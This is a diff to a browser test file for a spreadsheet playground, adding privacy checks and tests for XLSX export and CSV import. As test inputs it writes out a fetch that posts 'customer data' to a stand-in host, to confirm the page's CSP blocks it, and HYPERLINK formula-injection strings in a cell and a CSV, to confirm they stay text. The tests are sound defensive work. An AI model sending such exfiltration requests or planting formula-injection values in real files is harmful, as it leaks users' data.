@@ -8,6 +8,7 @@ import { existsSync, mkdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { ROOT, serveStatic, assertSameResult } from './helpers.mjs';
 import { launchChromium, isLoopback, CHROMIUM } from './playground-browser.mjs';
+import ExcelJS from 'exceljs';
 import * as glue from '../../build/pkg/rapport.js';
 import { createEngine, CellError } from '../../js/core/engine.js';
 
@@ -157,7 +158,9 @@ test('a Rapport formula typed into a cell spills its values', { skip }, async ()
 test('privacy: only loopback requests during load and a full recalculation, none after load', { skip }, async () => {
   const atLoad = browserRequests.length;
   const serverAtLoad = server.requests.length;
-  assert.ok(atLoad >= 4, 'the page, its script, its worker and the wasm were requested');
+  // Loading asks for exactly the page's own files, once each.
+  const paths = browserRequests.map((u) => new URL(u).pathname);
+  assert.deepEqual(paths.sort(), ['/playground/', '/playground/playground.css', '/playground/playground.js', '/playground/rapport_bg.wasm', '/playground/worker.js']);
   // A full recalculation of the sample workbook, then an edit.
   await page.getByRole('button', { name: 'Sample workbook' }).click();
   await page.evaluate(() => globalThis.RapportPlayground.settled());
@@ -182,7 +185,11 @@ test("privacy: the page's CSP blocks a fetch to another origin before any reques
   assert.match(csp, /connect-src 'self'/);
   const before = browserRequests.length;
   const outcome = await page.evaluate(async () => {
-    const seen = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve({ blocked: e.blockedURI, directive: e.violatedDirective }), { once: true }));
+    // The violation event, or null if none comes (bounded, so a loosened policy fails, not hangs).
+    const seen = new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', (e) => resolve({ blocked: e.blockedURI, directive: e.violatedDirective }), { once: true });
+      setTimeout(() => resolve(null), 5000);
+    });
     let fetched;
     try {
       await fetch('http://example.invalid/collect', { method: 'POST', body: 'customer data' });
@@ -193,10 +200,47 @@ test("privacy: the page's CSP blocks a fetch to another origin before any reques
     return { fetched, violation: await seen };
   });
   assert.equal(outcome.fetched, 'rejected: TypeError');
+  assert.ok(outcome.violation, 'the policy reported no violation');
   assert.match(outcome.violation.blocked, /^http:\/\/example\.invalid/);
   assert.equal(outcome.violation.directive, 'connect-src');
   assert.deepEqual(browserRequests.slice(before), [], 'no request was issued');
   assert.deepEqual(outsideAttempts, []);
+});
+
+test('the workbook exports as XLSX from the page, with its formulas and neutralised text', { skip }, async () => {
+  const before = browserRequests.length;
+  await page.getByRole('button', { name: 'Sample workbook' }).click();
+  await page.evaluate(async () => {
+    const p = globalThis.RapportPlayground;
+    await p.settled();
+    p.select(0, 3); // Summary!D1: text a spreadsheet would run as a formula
+    await p.commit("'=HYPERLINK(\"http://example.invalid\")");
+  });
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export XLSX' }).click()]);
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(readFileSync(await download.path()));
+  assert.deepEqual(wb.worksheets.map((ws) => ws.name), ['Summary', 'Survey', 'Seller', 'Accounts', 'Interactions', 'Value map', 'Generated']);
+  const summary = wb.getWorksheet('Summary');
+  assert.match(summary.getCell('A3').value.formula, /^RAPPORT\.ACCOUNT_SEQ\(/);
+  assert.equal(summary.getCell('D1').value, `'=HYPERLINK("http://example.invalid")`);
+  assert.deepEqual(browserRequests.slice(before).filter((u) => !u.startsWith('blob:')), [], 'exporting requests nothing');
+});
+
+test('a CSV from disk opens in the page, its text stays text, and Rapport formulas work on it', { skip }, async () => {
+  const before = browserRequests.length;
+  const csv = 'Account,Score\nAcme,91\nBeta,42\n"=HYPERLINK(""http://example.invalid"")",n/a\n';
+  await page.setInputFiles('#open-file', { name: 'scores.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
+  await page.waitForFunction(() => /opened scores\.csv/.test(document.getElementById('status').textContent));
+  await page.evaluate(async () => {
+    const p = globalThis.RapportPlayground;
+    p.select(1, 2);
+    await p.commit('=RAPPORT.SEQ_LEVEL(B2:B4)');
+  });
+  const { sheets, values } = await pageState();
+  assert.deepEqual(sheets.map((s) => s.name), ['scores']);
+  assert.equal(values.scores[3][0], '=HYPERLINK("http://example.invalid")');
+  assert.deepEqual(values.scores.slice(1, 4).map((r) => r[2] ?? null), ['Trusted Advisor', 'Antagonistic', null]);
+  assert.deepEqual(browserRequests.slice(before), [], 'opening a file requests nothing');
 });
 
 test('a long recalculation shows progress while the page keeps handling events', { skip }, async () => {
@@ -227,4 +271,11 @@ test('a screenshot of the playground with its dashboard is saved to test-artifac
   mkdirSync(dir, { recursive: true });
   await page.screenshot({ path: join(dir, 'playground.png') });
   assert.ok(existsSync(join(dir, 'playground.png')));
+});
+
+test('privacy, last: after every interaction above, still no request beyond the files loaded first', { skip }, () => {
+  const later = browserRequests.slice(5).filter((u) => !u.startsWith('blob:')); // export downloads are blob: URLs
+  assert.deepEqual(later, []);
+  assert.equal(server.requests.length, 5);
+  assert.deepEqual(outsideAttempts, []);
 });
